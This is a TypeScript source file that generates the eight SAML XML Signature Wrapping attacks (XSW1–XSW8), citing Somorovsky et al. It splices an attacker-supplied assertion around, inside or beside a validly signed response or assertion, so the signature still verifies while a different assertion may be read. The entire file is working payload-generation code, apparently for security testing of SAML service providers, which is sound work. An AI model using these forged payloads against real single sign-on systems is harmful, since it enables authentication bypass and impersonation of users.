const whole = (xml: string, name: string): string => new RegExp(`<(?:\\w+:)?${name}[ >].*</(?:\\w+:)?${name}>`, 's').exec(xml)?.[0] ?? '';

/** The eight ways of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the signed part stays whole, another is read. */
export function wrappings(signedResponse: string, signedAssertion: string, evil: string): Record<string, string> {
  const ofResponse = whole(signedResponse, 'Signature');
  const ofAssertion = whole(signedAssertion, 'Signature');
  const original = whole(signedAssertion, 'Assertion');
  const bare = original.replace(ofAssertion, '');
  const bareResponse = signedResponse.replace(ofResponse, '');
  const evilResponse = (content: string) => signedResponse.replace(whole(signedResponse, 'Assertion'), evil).replace('ID="_response"', 'ID="_evil"').replace(ofResponse, content);
  const around = (content: string) => signedAssertion.replace(original, content);
  const into = (content: string) => evil.replace('</saml:Issuer>', `</saml:Issuer>${content}`);
  const inSignature = (signature: string, content: string) => signature.replace('</Signature>', `${content}</Signature>`);
  return {
    'XSW1: the signed response inside the signature of another': evilResponse(inSignature(ofResponse, bareResponse)),
    'XSW2: the signed response beside the signature of another': evilResponse(bareResponse + ofResponse),
    'XSW3: another assertion before the signed one': around(evil + original),
    'XSW4: the signed assertion inside another': around(evil.replace('</saml:Assertion>', `${original}</saml:Assertion>`)),
    'XSW5: the signature moved to another assertion, the signed one at the end': around(into(ofAssertion) + bare),
    'XSW6: the signed assertion inside the signature of another': around(into(inSignature(ofAssertion, bare))),
    'XSW7: another assertion among extensions': around(`<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
    'XSW8: the signed assertion in an object of the signature of another': around(into(inSignature(ofAssertion, `<Object>${bare}</Object>`))),
  };
}
